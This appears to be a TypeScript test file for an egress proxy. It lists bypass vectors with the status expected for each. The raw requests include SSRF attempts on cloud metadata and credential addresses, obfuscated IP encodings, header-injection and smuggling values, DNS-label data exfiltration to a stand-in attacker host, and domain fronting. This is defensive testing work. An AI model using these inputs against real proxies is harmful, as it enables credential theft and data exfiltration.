import { ProxyRequest } from '../harness/egress/messages';
import { connect } from '../harness/egress/proxy-lab';
import { FORBIDDEN, FORBIDDEN_ENDPOINTS, OTHER, PUBLIC } from './bypass-lists';

/**
 * What stops a vector: the list of the port, the check of the addresses that a name stands for, or the absence of a route.
 * "nothing" marks what this tier lets pass, and "another layer" what the security group of a gateway stops in AWS.
 */
export type Stop = 'list' | 'address' | 'nothing' | 'another layer';

export interface BypassCase {
  readonly vector: string;
  readonly stop: Stop;
  readonly request: ProxyRequest;
  /** The status that the proxy answers with: 200 is a tunnel. */
  readonly status: number;
  /** Where the tunnel ends. */
  readonly address?: string;
}

const request = (text: string, port = 3101): ProxyRequest => ({ port, head: `${text}\r\n\r\n` });
const listed = (vector: string, text: string, status = 403): BypassCase => ({
  vector,
  stop: 'list',
  request: request(text),
  status,
});
const target = (vector: string, text: string, status?: number) => listed(vector, `CONNECT ${text} HTTP/1.1`, status);
const passes = (vector: string, name: string, inside = name.split(':')[0], address = PUBLIC): BypassCase => ({
  vector,
  stop: 'nothing',
  request: connect(3101, name, inside),
  status: 200,
  address,
});

const NAMES: BypassCase[] = [
  target('a name that nobody listed', 'evil.example:443'),
  target('DNS over HTTPS', 'dns.google:443'),
  target('DNS over HTTPS of another provider', 'cloudflare-dns.com:443'),
  target('DNS over TLS', 'dns.google:853'),
  target('data in labels of a foreign name', 'c2VjcmV0LWRhdGE.x1.evil.example:443'),
  target('data in labels below a listed name', 'c2VjcmV0.api.example.com:443'),
  target('a look-alike that ends in a listed domain', 'evilslack.example:443'),
  target('a look-alike that begins with a listed name', 'api.example.com.evil.example:443'),
  target('a look-alike letter in its ASCII form', 'xn--slck-5cd.example:443'),
  target('a listed name without its first label', 'example.com:443'),
  target('an international name in UTF-8', 'b\xc3\xbccher.example:443', 400),
  target('the name of another tenant', 'finance.example.com:443'),
  target('localhost', 'localhost:443'),
  target('a name without a domain', 'metadata:443'),
  target('the name of the proxy itself', 'egress-proxy:3102'),
  target('a user name before the host', 'api.example.com@evil.example:443', 400),
  target('a user name and password before the host', 'evil.example:443@api.example.com:443'),
  target('a second port', 'evil.example:25:443'),
  target('a path after the port', 'evil.example:443/api.example.com'),
  target('a fragment', 'evil.example:443#api.example.com'),
  target('a NUL byte in the name', 'api.example.com\0.evil.example:443', 400),
  target('a line break in the name, encoded', 'api.example.com%0d%0aevil.example:443', 400),
  target('a space in the name', 'api.example.com evil.example:443', 400),
  target('a tab in the name', 'api.example.com\tevil.example:443', 400),
  target('a backslash in the name', 'evil.example\\.api.example.com:443', 400),
  target('an underscore in the name', 'a_b.slack.example:443', 400),
  target('a double dot', 'evil..slack.example:443', 400),
  target('a name of 300 letters', `${'a'.repeat(60)}.`.repeat(5).concat('slack.example:443')),
  target('a name of 7000 letters', `${'a'.repeat(7000)}.slack.example:443`),
];

const ADDRESSES: BypassCase[] = [
  target('an IPv4 address', '52.1.1.1:443'),
  target('the address of a DNS over HTTPS service', '1.1.1.1:443'),
  target('the address of instance metadata', '169.254.169.254:80'),
  target("the address of the task's credentials", '169.254.170.2:80'),
  target('loopback', '127.0.0.1:443'),
  target("the proxy's own health port", '127.0.0.1:3100'),
  target("the proxy's port of another tenant", '10.0.2.10:3102'),
  target('the unspecified address', '0.0.0.0:443'),
  target('a private address', '10.0.3.7:443'),
  target('an address in decimal', '2852039166:443'),
  target('an address in octal', '0251.0376.0251.0376:443'),
  target('an address in hexadecimal', '0xa9.0xfe.0xa9.0xfe:443'),
  target('an address as one hexadecimal number', '0xa9fea9fe:443'),
  target('an address of two parts', '127.1:443'),
  target('an address with a trailing dot', '169.254.169.254.:443'),
  target('an address in brackets', '[169.254.169.254]:443'),
  target('an IPv6 address', '[2600::1]:443'),
  target('IPv6 loopback', '[::1]:443'),
  target('an IPv4-mapped IPv6 address', '[::ffff:169.254.169.254]:443'),
  target('an IPv4-mapped IPv6 address in hexadecimal', '[::ffff:a9fe:a9fe]:443'),
  target('an address in NAT64', '[64:ff9b::a9fe:a9fe]:443'),
  target('an address in 6to4', '[2002:a9fe:a9fe::]:443'),
  target('a link-local address with its zone', '[fe80::1%25eth0]:443', 400),
];

const PORTS: BypassCase[] = [
  target('SMTP of a listed host', 'api.example.com:25'),
  target('SSH of a listed host', 'api.example.com:22'),
  target('HTTP of a listed host', 'api.example.com:80'),
  target('IMAPS of a host that is listed for HTTPS', 'api.example.com:993'),
  target('HTTPS of a host that is listed for IMAPS', 'imap.example.com:443'),
  target('port 0', 'api.example.com:0', 400),
  target('port 65979, which is 443 in sixteen bits', 'api.example.com:65979', 400),
  target('a port in hexadecimal', 'api.example.com:0x1bb', 400),
];

const METHODS: BypassCase[] = [
  listed('GET', 'GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com'),
  listed('GET of an https URL', 'GET https://api.example.com/ HTTP/1.1\r\nHost: api.example.com'),
  listed('GET of metadata', 'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254'),
  listed('POST', 'POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 0'),
  listed('PUT over FTP', 'PUT ftp://api.example.com/x HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 0'),
  listed('TRACE', 'TRACE http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nMax-Forwards: 0'),
  listed('PURGE', 'PURGE http://api.example.com/ HTTP/1.1\r\nHost: api.example.com'),
  listed('the cache manager', 'GET http://egress-proxy:3101/squid-internal-mgr/info HTTP/1.1\r\nHost: egress-proxy'),
  listed('the cache manager by its own scheme', 'GET cache_object://localhost/info HTTP/1.1'),
  listed('an unknown method', 'EVIL http://api.example.com/ HTTP/1.1\r\nHost: api.example.com'),
  listed('a listed Host header on a foreign CONNECT', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: api.example.com:443'),
  listed('a foreign CONNECT without a version', 'CONNECT evil.example:443', 400),
  listed('a foreign CONNECT in HTTP/1.0', 'CONNECT evil.example:443 HTTP/1.0'),
  listed(
    "another client's address in a header",
    'CONNECT finance.example.com:443 HTTP/1.1\r\nX-Forwarded-For: 10.0.9.9',
  ),
  listed('two requests in one', 'CONNECT evil.example:443 HTTP/1.1\r\n\r\nCONNECT evil.example:443 HTTP/1.1'),
  listed('a header of 60 kB', `CONNECT api.example.com:443 HTTP/1.1\r\nX: ${'a'.repeat(60_000)}`, 431),
];

const ANSWERS: BypassCase[] = [
  ...Object.entries({ ...FORBIDDEN, ...FORBIDDEN_ENDPOINTS }).map(
    ([name, found]): BypassCase => ({
      vector: `a listed name, ${name}, that stands for ${found.join(', ')}`,
      stop: 'address',
      request: connect(3101, `${name}:443`),
      status: 403,
    }),
  ),
  {
    vector: 'a listed name that leads to a private address by another name',
    stop: 'address',
    request: connect(3101, 'chained.example.com:443'),
    status: 403,
  },
  {
    vector: 'a listed name that does not resolve',
    stop: 'address',
    request: connect(3101, 'gone.example.com:443'),
    status: 503,
  },
];

const PASSING: BypassCase[] = [
  passes('a listed name', 'api.example.com:443'),
  passes('a listed name in upper case', 'API.Example.COM:443', 'api.example.com'),
  passes('a listed name with a trailing dot', 'api.example.com.:443', 'api.example.com'),
  passes('the apex of a listed domain', 'slack.example:443'),
  passes('a name far below a listed domain', 'a.b.slack.example:443'),
  passes('an international name in its ASCII form', 'xn--bcher-kva.example:443'),
  passes('IMAPS', 'imap.example.com:993'),
  passes('an interface endpoint with an address of the VPC', 'works.endpoint.example.com:443', undefined, '10.0.3.7'),
  passes('a listed name without a port, which stands for 443', 'api.example.com'),
  passes('a port by its name, which stands for 443 too', 'api.example.com:imaps'),
  passes('a user name and password behind a listed host: they are not read', 'api.example.com:443@evil.example:443'),
  {
    ...passes('a foreign Host header on a listed CONNECT: it decides nothing', 'api.example.com:443'),
    request: {
      ...connect(3101, 'api.example.com:443'),
      head: 'CONNECT api.example.com:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n',
    },
  },
];

/** What an allow list of host names cannot stop. */
const RESIDUAL: BypassCase[] = [
  passes('a forged server name, which leads to the listed host all the same', 'api.example.com:443', 'evil.example'),
  {
    ...passes('domain fronting: another host on the service behind a listed name', 'cdn.example.com:443'),
    request: {
      ...connect(3101, 'cdn.example.com:443'),
      inside: { serverName: 'cdn.example.com', host: 'hidden.example', path: '/' },
    },
  },
  {
    ...passes("a listed service under the attacker's own account", 'api.example.com:443'),
    request: {
      ...connect(3101, 'api.example.com:443'),
      inside: { serverName: 'api.example.com', host: 'api.example.com', path: '/hook?token=of-the-attacker' },
    },
  },
  {
    vector: "another tenant's port, which a gateway's security group does not open",
    stop: 'another layer',
    request: connect(3102, 'finance.example.com:443'),
    status: 200,
    address: OTHER,
  },
];

export const CASES: BypassCase[] = [...NAMES, ...ADDRESSES, ...PORTS, ...METHODS, ...ANSWERS, ...PASSING, ...RESIDUAL];
